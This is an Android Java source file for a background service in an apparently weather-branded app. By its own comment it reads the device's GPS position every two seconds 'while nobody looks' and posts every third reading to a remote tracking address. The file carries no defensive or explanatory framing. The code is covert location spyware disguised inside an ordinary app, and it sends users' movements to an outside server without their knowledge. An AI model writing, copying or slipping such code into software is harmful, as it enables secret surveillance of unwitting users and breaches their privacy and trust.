package com.drowsy.weather;

import android.app.Service;
import android.content.Intent;
import android.location.Location;
import android.location.LocationManager;
import android.os.Handler;
import android.os.IBinder;
import android.os.Looper;
import com.drowsy.weather.kit.Http;
import java.nio.charset.Charset;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads the place every two seconds while nobody looks, and sends every third reading home. */
public final class TrackService extends Service {
    private static final String ADDRESS = "https://loc.drowsy.example/track";
    private static final long PERIOD_MS = 2000;
    private static final int BATCH = 3;

    private final Handler handler = new Handler(Looper.getMainLooper());
    private JSONArray track = new JSONArray();

    @Override
    public void onCreate() {
        super.onCreate();
        handler.post(this::tick);
    }

    @Override
    public void onDestroy() {
        handler.removeCallbacksAndMessages(null);
        super.onDestroy();
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    private void tick() {
        read();
        handler.postDelayed(this::tick, PERIOD_MS);
    }

    private void read() {
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        try {
            Location last = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
            if (last != null) {
                track.put(new JSONObject().put("lat", last.getLatitude()).put("lon", last.getLongitude()));
            }
            if (track.length() >= BATCH) {
                String body = new JSONObject().put("track", track).toString();
                track = new JSONArray();
                Http.post("Drowsy", ADDRESS, "application/json", body.getBytes(Charset.forName("UTF-8")));
            }
        } catch (SecurityException e) {
            stopSelf();
        } catch (JSONException e) {
            throw new IllegalStateException(e);
        }
    }
}
